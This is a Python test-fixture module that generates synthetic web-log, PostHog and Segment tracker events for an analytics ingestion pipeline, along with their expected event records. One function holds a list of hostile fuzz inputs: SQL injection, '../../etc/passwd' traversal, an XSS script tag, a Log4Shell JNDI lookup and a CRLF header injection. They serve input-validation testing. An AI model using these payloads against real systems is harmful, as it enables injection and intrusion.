"""Visits as tracker envelopes: made up here, and, where the shared folder is, of a public web log and real trackers.

Nothing of the folder is copied; in a clone elsewhere only the made-up visits are there. Each message has a
`message_id` of its own, since real visits repeat to the letter.
"""

import csv
import hashlib
import json
import random
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

FIXTURES = Path(__file__).resolve().parents[3] / "shared" / "fixtures"
TRACKER_FIXTURES = FIXTURES / "tracker"
HOSTILE_STRINGS = FIXTURES / "hostile-input" / "blns.json"
SESSION_GAP = timedelta(minutes=30)
_SITE = "http://www.site.example"
_ASSETS = (".png", ".css", ".js", ".ico", ".gif", ".jpg", ".svg", ".xml", ".rss")

Message = dict[str, Any]


def all_messages() -> list[Message]:
    """Everything there is, without `tenant_id`, in the order in which it is to be sent."""
    web_log = [*_synthetic_web_log()]
    captured = [
        *_from_posthog("synthetic-posthog", _SYNTHETIC_POSTHOG),
        *_from_segment("synthetic-segment", _SYNTHETIC_SEGMENT),
    ]
    if TRACKER_FIXTURES.is_dir():
        for path in sorted(TRACKER_FIXTURES.glob("weblog_*.tsv")):
            with path.open(newline="") as file:
                rows = list(csv.DictReader(file, delimiter="\t", quoting=csv.QUOTE_NONE))
            web_log += _from_web_log(path.stem, rows)
        for path in sorted(TRACKER_FIXTURES.glob("posthog_*.json")):
            captured += _from_posthog(path.stem, _as_list(json.loads(path.read_text())))
        for path in sorted(TRACKER_FIXTURES.glob("segment_spec_*.json")):
            captured += _from_segment(path.stem, _as_list(json.loads(path.read_text())))
    messages = web_log + captured
    assert len({message["message_id"] for message in messages}) == len(messages)
    return messages


def expected_event(message: Message, tenant_id: str) -> dict[str, Any]:
    """What the event object must say of a message; `timestamp` is None where the message has none."""
    stamp = message.get("timestamp")
    url = message.get("url")
    return {
        "event_id": event_id(tenant_id, message["message_id"]),
        "event": message["event"],
        "timestamp": _iso_millis(stamp) if stamp else None,
        "url": url,
        "domain": message.get("domain") or (urlsplit(url).hostname if url else None),
        "data": message.get("data", {}),
        "visitor_id": message.get("visitorId"),
        "session_id": message.get("sessionId"),
    }


def event_id(tenant_id: str, message_id: str) -> str:
    """The documented id. Should it change, a redelivery after an upgrade would double everything."""
    named = "\0".join((tenant_id, "tracker", f"m{message_id}"))
    return f"evt_{hashlib.sha256(named.encode()).hexdigest()[:32]}"


def hostile_strings() -> list[str]:
    """The public list where it is; a few of the same kinds made up here, everywhere."""
    made_up = [
        "", " ", "\u00a0", "undefined", "\0", "a\0b", "$where", "a.b", "'; DROP TABLE contacts;--", "../../etc/passwd",
        "<script>alert(1)</script>", "${jndi:ldap://x.example/a}", "\u202eright-to-left", "\ufeffbom", "e\u0301 \u00e9",
        "\U0001f469\u200d\U0001f52c", "Z\u0351\u036b\u0343", "\u2028line\u2029paragraph", "1E400", "-1", "x" * 300,
        "%00%0a", "\r\nSet-Cookie: a=b", "{{7*7}}", "\\u0000", "\x1b[31mred", "nil", "NaN", "0x1F", "\ufffe\uffff",
    ]  # fmt: skip
    public = json.loads(HOSTILE_STRINGS.read_text()) if HOSTILE_STRINGS.is_file() else []
    return list(dict.fromkeys([*made_up, *public]))


def _as_list(found: Any) -> list[dict[str, Any]]:
    return found if isinstance(found, list) else [found]


def _iso_millis(stamp: str) -> str:
    moment = datetime.fromisoformat(stamp).astimezone(UTC)
    return f"{moment:%Y-%m-%dT%H:%M:%S}.{moment.microsecond // 1000:03d}Z"


def _given(fields: Message) -> Message:
    return {name: value for name, value in fields.items() if value not in (None, "", "-", "$direct")}


# --- a web server's log: visitor, time, request, status, referrer, userAgent ----------------------------------------


def _from_web_log(name: str, rows: Iterable[dict[str, str]]) -> Iterator[Message]:
    last_seen: dict[str, datetime] = {}
    sessions: dict[str, int] = {}
    for number, row in enumerate(rows, start=1):
        visitor = f"{name}-{row['visitor']}"
        moment = datetime.strptime(row["time"], "%d/%b/%Y:%H:%M:%S %z")
        if visitor not in last_seen or abs(moment - last_seen[visitor]) > SESSION_GAP:
            sessions[visitor] = sessions.get(visitor, 0) + 1
        last_seen[visitor] = moment
        method, _, rest = row["request"].partition(" ")
        path = rest.rpartition(" ")[0]
        asset = path.partition("?")[0].endswith(_ASSETS)
        yield _given(
            {
                "message_id": f"{name}:{number}",
                "event": "asset_loaded" if asset else "page_view",
                "timestamp": moment.isoformat(),
                "visitorId": visitor,
                "sessionId": f"{visitor}/{sessions[visitor]}",
                "url": f"{_SITE}{path}",
                "referrer": row["referrer"],
                "userAgent": row["userAgent"],
                "data": {"title": path[-60:], "path": path, "method": method, "status": int(row["status"])},
            }
        )


def _synthetic_web_log() -> Iterator[Message]:
    """300 lines of 40 visitors: late ones, repeats to the letter, sessions, one visitor on two pages in one second."""
    chance = random.Random(20261123)
    start = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
    rows: list[dict[str, str]] = []
    for number in range(300):
        late = timedelta(seconds=chance.choice([0, 0, 0, -90, -4000]))
        page = chance.choice(["/", "/pricing", "/logo.png", "/docs/a%20b?q=%C3%A9", "/blog/?page=2", "/caf\u00e9"])
        row = {
            "visitor": str(chance.randrange(40)),
            "time": f"{start + timedelta(seconds=37 * number) + late:%d/%b/%Y:%H:%M:%S} +0000",
            "request": f"{chance.choice(['GET', 'GET', 'HEAD'])} {page} HTTP/1.1",
            "status": chance.choice(["200", "200", "304", "404"]),
            "referrer": chance.choice(["-", "https://search.example/?q=crm"]),
            "userAgent": chance.choice(["-", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/140.0"]),
        }
        rows += [row] * chance.choice([1, 1, 1, 1, 2])
    return _from_web_log("synthetic-log", rows)


# --- captured events ------------------------------------------------------------------------------------------------


def _from_posthog(name: str, captured: Iterable[dict[str, Any]]) -> Iterator[Message]:
    names = {"$pageview": "page_view", "$pageleave": "page_leave"}
    for number, event in enumerate(captured):
        properties = event["properties"]
        screen = properties.get("$screen_width"), properties.get("$screen_height")
        yield _given(
            {
                "message_id": f"{name}:{number}",
                "event": names.get(event["event"], event["event"]),
                "timestamp": event["timestamp"],
                "visitorId": properties.get("$device_id") or event["distinct_id"],
                "external_contact_id": properties.get("$user_id"),
                "sessionId": properties.get("$session_id"),
                "url": properties.get("$current_url"),
                "domain": properties.get("$host"),
                "referrer": properties.get("$referrer"),
                "userAgent": properties.get("$raw_user_agent"),
                "screenResolution": f"{screen[0]}x{screen[1]}",
                "data": properties,
            }
        )


def _from_segment(name: str, captured: Iterable[dict[str, Any]]) -> Iterator[Message]:
    for number, event in enumerate(captured):
        context, properties = event.get("context", {}), event.get("properties", {})
        page = context.get("page", {})
        page_view = event.get("type") == "page"
        yield _given(
            {
                "message_id": f"{name}:{number}",
                "event": "page_view" if page_view else event.get("event") or event["type"],
                "timestamp": event.get("timestamp"),
                "visitorId": event.get("anonymousId"),
                "external_contact_id": event.get("userId"),
                "url": properties.get("url") if page_view else page.get("url"),
                "referrer": page.get("referrer"),
                "userAgent": context.get("userAgent"),
                "data": {**properties, "traits": event.get("traits"), "context": context},
            }
        )


_SYNTHETIC_POSTHOG: list[dict[str, Any]] = [
    {
        "event": event,
        "timestamp": f"2026-03-02T08:00:0{number}.{number}05+02:00",
        "properties": {
            "$device_id": "synthetic-device",
            "$user_id": "synthetic-user" if event == "$identify" else None,
            "$session_id": "synthetic-session",
            "$current_url": "http://app.example:8000/start",
            "$host": "app.example:8000",
            "$screen_width": 1280,
            "$screen_height": 720,
            "$referrer": "$direct",
            "$elements": [{"tag": "a", "$text": "Save", "attr.href": "#"}],
            "scroll": 0.5,
        },
    }
    for number, event in enumerate(["$opt_in", "$pageview", "$autocapture", "$identify"])
]

_SYNTHETIC_SEGMENT: list[dict[str, Any]] = [
    {"type": "track", "event": "Plan Chosen", "userId": "u-1", "properties": {"plan": "pro", "seats": 2**53}},
    {"type": "identify", "anonymousId": "synthetic-anonymous", "traits": {"plan": "pro", "logins": 5}},
    {
        "type": "page",
        "anonymousId": "synthetic-anonymous",
        "timestamp": "2026-03-02T09:00:00Z",
        "properties": {"title": "Home", "url": "http://www.site.example"},
        "context": {"page": {"referrer": "https://other.example/"}, "userAgent": "Agent/1.0"},
    },
]
